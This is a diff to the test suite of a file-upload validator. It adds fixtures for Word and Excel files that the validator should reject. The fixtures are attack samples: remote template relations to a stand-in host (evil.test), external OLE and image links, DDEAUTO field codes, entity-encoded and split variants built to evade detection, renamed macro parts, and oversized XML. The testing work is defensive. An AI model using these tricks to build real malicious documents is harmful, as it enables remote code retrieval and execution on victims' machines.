@@ -23,6 +23,8 @@ PDF_ATTACHED = "PDF files with files attached to them are not accepted"
 PDF_OPAQUE = "This PDF file cannot be inspected; print it to a new PDF file and send that"
 LOCKED = "Files protected by a password are not accepted"
 MACROS = "Files with macros or embedded programs are not accepted"
+FETCHING = "Files that fetch parts of themselves from elsewhere are not accepted"
+TOO_LARGE = "This file is too large to be inspected; save it as PDF and send that"
 BOMB = "The file unpacks to far more than its size"
 OFFICE_DAMAGED = "The file is damaged or is no Word or Excel file"
 OFFICE_OLD = "Office files that are protected by a password, or older than docx and xlsx, are not accepted"
@@ -67,6 +69,29 @@ MACRO_TYPES = (
     '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
     '<Default ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
 )
+EXTERNAL = 'TargetMode="External"'
+LONG_TEXT = office("docx", ("word/a.xml", "<a>" + "<b/>" * 1_600_000 + "</a>"), method=zipfile.ZIP_STORED)
+LONG_TAG = office("docx", ("word/a.xml", "<a " + " ".join(f'a{n}="x"' for n in range(99_000)) + "/>"))
+HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
+
+
+def related(kind, mode, encoding="utf-8", part="word/_rels/settings.xml.rels"):
+    """A Word file with one relation to something elsewhere."""
+    relation = f'<R xmlns="r"><Relationship Id="r1" Type="{kind}" Target="https://evil.test/a" {mode}/></R>'
+    return office("docx", (part, f'<?xml version="1.0" encoding="{encoding}"?>{relation}'.encode(encoding)))
+
+
+def field(content):
+    """A Word file with one field in a header."""
+    begin = '<w:fldChar w:fldCharType="begin"/>'
+    return office("docx", ("word/header1.xml", f'<w:hdr xmlns:w="w"><w:r>{begin}{content}</w:r></w:hdr>'))
+
+
+def types_of(kind, *more):
+    types = "".join(f'<Override ContentType="{name}"/>' for name in (f"{CALLED[kind]}.main+xml", *more))
+    return f"<Types>{types}</Types>"
+
+
 TEMPLATE = '<Relationship Type="x/attachedTemplate" Target="https://evil.test/a.dotm" TargetMode="External"/>'
 
 FILES = {
@@ -149,7 +174,62 @@ FILES = {
     "an excel 4 macro": (office("xlsx", ("xl/macrosheets/sheet1.xml", "<x/>")), "a.xlsx", None, MACROS),
     "an embedded program": (office("docx", ("word/embeddings/oleObject1.bin", b"x")), "a.docx", None, MACROS),
     "a docm called docx": (office("docx", types=MACRO_TYPES), "a.docx", None, MACROS),
-    "a template from elsewhere": (office("docx", ("word/_rels/settings.xml.rels", TEMPLATE)), "a.docx", None, MACROS),
+    "a template from elsewhere": (office("docx", ("word/_rels/settings.xml.rels", TEMPLATE)), "a.docx", None, FETCHING),
+    "a template from elsewhere in other letters": (
+        related("x/attached&#84;emplate", 'TargetMode="&#69;xternal"'), "a.docx", None, FETCHING
+    ),
+    "a template from elsewhere in UTF-16": (
+        related("x/attachedTemplate", EXTERNAL, "utf-16"), "a.docx", None, FETCHING
+    ),
+    "a template from elsewhere of another part": (
+        related("x/attachedTemplate", EXTERNAL, part="word/_rels/document.xml.rels"), "a.docx", None, FETCHING
+    ),
+    "a program from elsewhere": (related("x/oleObject", EXTERNAL), "a.docx", None, FETCHING),
+    "a picture from elsewhere": (related("x/image", EXTERNAL), "a.docx", None, FETCHING),
+    "a picture from elsewhere that does not say so": (related("x/image", ""), "a.docx", None, FETCHING),
+    "a hyperlink by a name alike": (related("x/hyperlink", EXTERNAL), "a.docx", None, FETCHING),
+    "a relation that is declared": (
+        office("docx", ("word/_rels/x.rels", '<!DOCTYPE r [<!ENTITY t "x">]><r Type="&t;"/>')),
+        "a.docx", None, OFFICE_DAMAGED,
+    ),
+    "a relation in a list with an escape in its name": (
+        related("x/image", EXTERNAL, part="word/_rels/a.r%65ls"), "a.docx", None, FETCHING
+    ),
+    "a link to another program": (
+        office("xlsx", ("xl/_rels/workbook.xml.rels", '<R Type="x/externalLink" Target="e.xml"/>')),
+        "a.xlsx", None, FETCHING,
+    ),
+    "a part in another format": (
+        office("docx", ("word/_rels/a.rels", '<R Type="x/aFChunk" Target="a.rtf"/>')), "a.docx", None, MACROS
+    ),
+    "macros under another name": (
+        office("docx", ("word/pages.bin", b"x"), types=types_of("docx", "application/vnd.ms-office.vbaProject")),
+        "a.docx", None, MACROS,
+    ),
+    "macros under another name and type": (
+        office("docx", ("word/pages.bin", b"\xd0\xcf\x11\xe0\xa1\xb1")), "a.docx", None, MACROS
+    ),
+    "a program under another name": (office("xlsx", ("xl/embeddings/a.xml", b"MZ\x90\0")), "a.xlsx", None, MACROS),
+    "an older file in one": (office("docx", ("word/embeddings/a.doc", b"\xd0\xcf\x11\xe0")), "a.docx", None, MACROS),
+    "a workbook with macros in a file": (
+        office("docx", ("word/embeddings/a.xlsx", office("xlsx", ("xl/vbaProject.bin", b"x")))), "a.docx", None, MACROS
+    ),
+    "a workbook in a workbook in a file": (
+        office("docx", ("word/embeddings/a.xlsx", office("xlsx", ("xl/a.xlsx", office("xlsx"))))),
+        "a.docx", None, MACROS,
+    ),
+    "a field that starts a program": (field("<w:instrText>DDEAUTO c:\\x</w:instrText>"), "a.docx", None, MACROS),
+    "a field in pieces": (
+        field("<w:instrText> D</w:instrText></w:r><w:r><w:instrText>&#68;E c:\\x</w:instrText>"), "a.docx", None, MACROS
+    ),
+    "a field in numbers": (
+        field("<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>"), "a.docx", None, MACROS
+    ),
+    "a field of one word": (
+        office("docx", ("word/footer1.xml", '<w:p><w:fldSimple w:instr=" dde x"/></w:p>')), "a.docx", None, MACROS
+    ),
+    "a text too long to read": (LONG_TEXT, "a.docx", None, TOO_LARGE),
+    "a text with a tag too long to read": (LONG_TAG, "a.docx", None, TOO_LARGE),
     "a locked archive": (locked_archive(), "a.docx", None, LOCKED),
     "a zip bomb": (office("xlsx", ("xl/sheet.xml", b"0" * 30_000_000)), "a.xlsx", None, BOMB),
     "a zip bomb of shared bytes": (sharing_bytes(), "a.xlsx", None, BOMB),
@@ -214,6 +294,9 @@ def test_the_reason_comes_in_the_language_of_the_caller(as_, ahmed, customer):
         (pdf(b"<< /First 4 0 R /Last 9 0 R >>", b"<< >>\nstream\n/EF /AF q Q /XFA\nendstream"), "short names.pdf"),
         (office("xlsx", ("xl/sheet.xml", b"<c/>" * 200_000)), "a large table.xlsx"),
         (office("docx", ("word/_rels/settings.xml.rels", "<Relationship/>")), "settings.docx"),
+        (related(HYPERLINK, EXTERNAL), "a hyperlink.docx"),
+        (office("docx", ("word/embeddings/a.xlsx", office("xlsx"))), "a chart.docx"),
+        (field("<w:instrText> HYPERLINK &quot;https://x.test/dde/&quot;</w:instrText>"), "a field.docx"),
         (office("xlsx", ("xl/printerSettings/printerSettings1.bin", b"x")), "a printer.xlsx"),
     ],
 )
